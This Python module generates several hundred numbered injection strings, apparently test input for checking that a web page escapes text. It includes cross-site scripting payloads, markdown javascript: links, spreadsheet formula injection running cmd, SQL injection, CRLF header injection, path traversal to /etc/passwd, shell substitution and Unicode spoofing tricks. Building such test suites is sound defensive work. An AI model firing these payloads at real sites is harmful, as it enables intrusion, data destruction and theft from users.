"""Texts that would do something if a page took them for more than text: five hundred and more, each with a number.

They are put together from parts: what would run, and how it could get out of the place where a text stands. Each calls
`pwn(NUMBER)`, so that a browser in which one of them runs can tell which.
"""

from __future__ import annotations

from itertools import count, product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

RUNS = (
    "<script>{call}</script>",
    "<script src=data:,{call}></script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext></form><mglyph><style></math><img src onerror={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<form><button formaction=javascript:{call}>x</button></form>",
    "<a href=javascript:{call}>x</a>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<style>@import '//example.org/x.css';*{{display:none}}</style>",
    "<template><script>{call}</script></template>",
    "<x-y style=position:fixed;inset:0 onclick={call}>",
    "<event-timeline data-query='?event=x' data-root=//example.org/></event-timeline>",
)
"""What a browser would run, fetch or obey."""

WAYS = (
    "{run}",
    '"{run}',
    "'>{run}",
    '">{run}',
    "</title>{run}",
    "</textarea>{run}",
    "</style>{run}",
    "</script>{run}",
    "</noscript>{run}",
    "</template>{run}",
    "--><!-- {run}",
    "]]>{run}",
    "`{run}`",
    "*a* {run}",
    "\\{run}",
)
"""How it could leave the place where a text stands."""

MARKDOWN = (
    "[x](javascript:{call})",
    "[x](JaVaScRiPt:{call})",
    "[x]( javascript:{call})",
    "[x](java\\script:{call})",
    "[x](&#106;avascript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    "[x](vbscript:{call})",
    "[x](//example.org/{n})",
    "[x](https://a@example.org/{n})",
    "[x](event:x'onclick={call})",
    '[x](https://example.org/{n} "t\' onclick={call}")',
    "[x][r{n}]",
    "![x](x onerror={call})",
    "![x](https://example.org/{n}.png)",
    "<javascript:{call}>",
    "<https://example.org/{n}>",
    "x{{: onclick={call} }}",
    "{{: #main .x style=display:none }}",
    "!!! note {call}",
    '--8<-- "mkdocs.yml"',
    "[TOC]",
    "[^{n}]",
    "*[x]: {call}",
    "| a | b |",
    "# x {{: onload={call} }}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "&#x3c;img src=x onerror={call}&#x3e;",
    "\x02script\x03{call}",
    "STX0ETX wzxhzdk:0 klzzwxh:{n}",
    "<!-- {call} -->",
    "<? {call} ?>",
    "<![CDATA[<script>{call}</script>]]>",
    "```x\n{call}\n```",
    "<b>{call}</b>",
    "<b\n>{call}</b>",
    "< script >{call}",
    "<%00script>{call}",
)
OTHERS = (
    "{{{{ config }}}}{n}",
    "{{% include 'mkdocs.yml' %}}",
    "{{# x #}}",
    "${{{call}}}",
    "#{{{call}}}",
    "{{0.__class__}}",
    "%s%n%(x)s{n}",
    "---\ntitle: {call}\n---",
    "@@oc:{n}@@",
    "=cmd|'/c {call}'!A1",
    "+1+{call}",
    "-1+{call}",
    "@SUM({n})",
    "\t=1+{n}",
    "'; DROP TABLE events;--{n}",
    '" OR 1=1 --{n}',
    "a\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "a\nSet-Cookie: {call}",
    "a;b,c:d\\n{n}",
    "\u202e{call}\u202c",
    "\u2066{call}\u2069",
    "\u200b{call}\ufeff",
    "a\u0000{call}",
    "\ud800{call}",
    "\udc00\ud800{n}",
    "\ufffe{call}",
    "\U000e0041{call}",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\u02c2img src=x onerror={call}\u02c3",
    "\u212a{n} \u017fcript",
    "\u0430us\u0442in {n}",
    "\u0301\u0302\u0303{n}",
    "\u2028{call}\u2029",
    "\u00ad{call}",
    "+ADw-script+AD4-{call}",
    "\x1b]0;{call}\x07",
    "\x1b[2J{n}",
    "x" * 1990 + "{n}",
    "\u4f1a" * 600 + "{n}",
    "../../../etc/passwd",
    "C:\\..\\{n}",
    "|{call}",
    "`{call}`",
    "$({call})",
    "__proto__",
    "constructor",
    "{n} ${{7*7}} <%= 7*7 %>",
    "{{{{7*7}}}}",
    "::group::{n}",
    "%0A::error::{n}",
    "<b>",
    "<a>{n}",
    "&",
    "&amp;{n}",
    "\"'`<>&{n}",
    "' onclick={call} '",
    '" onmouseover={call} "',
    "'\"onfocus={call} autofocus tabindex=0 x='",
    "x onpointerenter={call}",
)


def payloads() -> list[str]:
    """Give the texts, each with its own number in it where it calls anything."""
    numbers = count()
    return [
        text.replace("{call}", f"pwn({number})").replace("{n}", str(number))
        for text in _texts()
        for number in [next(numbers)]
    ]


def _texts() -> Iterator[str]:
    for way, run in product(WAYS, RUNS):
        yield way.replace("{run}", run.replace("{{", "{").replace("}}", "}"))
    for text in (*MARKDOWN, *OTHERS):
        yield text.replace("{{", "{").replace("}}", "}")
    for run in RUNS:  # short enough for the smallest fields, or in capitals, or within words
        yield "会谈" + run.replace("{{", "{").replace("}}", "}").upper().replace("{CALL}", "{call}")
    for run in RUNS:
        yield run.replace("{{", "{").replace("}}", "}").replace("<", "&lt;").replace(">", "&gt;")
